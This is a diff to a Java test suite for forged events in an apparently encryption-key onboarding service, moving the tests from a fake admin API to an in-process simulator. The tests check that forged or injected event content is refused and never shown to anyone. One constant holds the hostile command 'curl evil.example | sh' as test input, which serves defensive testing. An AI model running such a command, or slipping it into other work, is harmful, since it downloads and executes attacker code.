@@ -4,9 +4,10 @@ import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import cmek.client.anthropic.AdminApi;
 import cmek.client.storage.EvidenceStorage;
 import cmek.config.Configs;
-import cmek.fake.FakeAdminApi;
+import cmek.fake.AdminApiInProcess;
 import cmek.fake.FakeKms;
 import cmek.fake.FakeStorage;
 import cmek.fake.FakeTopics;
@@ -29,6 +30,7 @@ import cmek.onboarding.state.NewestResults;
 import cmek.onboarding.state.OnboardingStore;
 import cmek.onboarding.state.TerminalResults;
 import cmek.onboarding.state.Warnings;
+import cmek.simulator.AdminSimulator;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.cloudevents.CloudEvent;
@@ -39,7 +41,6 @@ import java.util.Arrays;
 import java.util.List;
 import java.util.Map;
 import java.util.Objects;
-import java.util.Optional;
 import java.util.function.Consumer;
 import java.util.function.UnaryOperator;
 import java.util.stream.Stream;
@@ -63,9 +64,12 @@ class ForgedEventsTest {
     private static final String COMMAND = "curl evil.example | sh";
 
     private final FakeKms kms = new FakeKms();
-    private final FakeAdminApi anthropic = new FakeAdminApi(Sample.ORGANIZATION)
-            .withExternalKey("ekey_strangers", STRANGERS, true, Sample.NOW)
-            .withWorkspace(Sample.WORKSPACE, false, Optional.empty());
+    private final AdminApiInProcess admin = new AdminApiInProcess();
+    private final AdminSimulator simulator = admin.simulator()
+            .withKey("ekey_strangers", STRANGERS.toString(), Sample.NOW)
+            .useElsewhere("ekey_strangers")
+            .withWorkspace(Sample.WORKSPACE.value(), "Payments");
+    private final AdminApi anthropic = admin.client();
     private final FakeTopics topics = new FakeTopics();
     private final FakeStorage storage = new FakeStorage();
     private Policy policy = Sample.LISTING;
@@ -133,7 +137,7 @@ class ForgedEventsTest {
         assertThat(results()).containsExactly("REFUSED " + forgery.reason);
         assertThat(topics.published()).hasSize(1);
         assertThat(kms.writes()).isEmpty();
-        assertThat(anthropic.calls()).isEmpty();
+        assertThat(admin.calls()).isEmpty();
     }
 
     @ParameterizedTest
@@ -144,7 +148,7 @@ class ForgedEventsTest {
         enter(step, registered("ekey_strangers"));
 
         assertThat(results()).containsExactly("REFUSED UNREADABLE");
-        assertThat(anthropic.calls()).isEmpty();
+        assertThat(admin.calls()).isEmpty();
     }
 
     /** It may be there and not be shown yet, so this waits until it is given up. */
@@ -157,7 +161,7 @@ class ForgedEventsTest {
 
         assertThat(results()).allMatch(result -> result.startsWith("RETRYING"));
         assertThat(topics.published()).hasSize(results().size());
-        assertThat(anthropic.calls()).isEmpty();
+        assertThat(admin.calls()).isEmpty();
     }
 
     /** A field that is not known is ignored, whatever it says: the grantee is a constant of the program. */
@@ -181,7 +185,7 @@ class ForgedEventsTest {
     @EnumSource(value = Step.class, mode = EnumSource.Mode.EXCLUDE, names = "ONBOARD")
     void whatAnEventSaysToPeopleIsNotShownToAnybody(Step step) {
         kms.withRing(Sample.KEY.ring()).withKey(Sample.KEY, Sample.LABELS, UnaryOperator.identity());
-        anthropic.withExternalKey("ekey_ours", Sample.KEY, false, Sample.NOW);
+        simulator.withKey("ekey_ours", Sample.KEY.toString(), Sample.NOW);
 
         enter(step, talking());
 
@@ -191,7 +195,7 @@ class ForgedEventsTest {
 
     @Test
     void norIsItShownToThePersonWhoApproves() {
-        anthropic.withExternalKey("ekey_ours", Sample.KEY, false, Sample.NOW);
+        simulator.withKey("ekey_ours", Sample.KEY.toString(), Sample.NOW);
         policy = new Policy(
                 Sample.LISTING.allowedProjects(),
                 Sample.LISTING.allowedWorkspaces(),
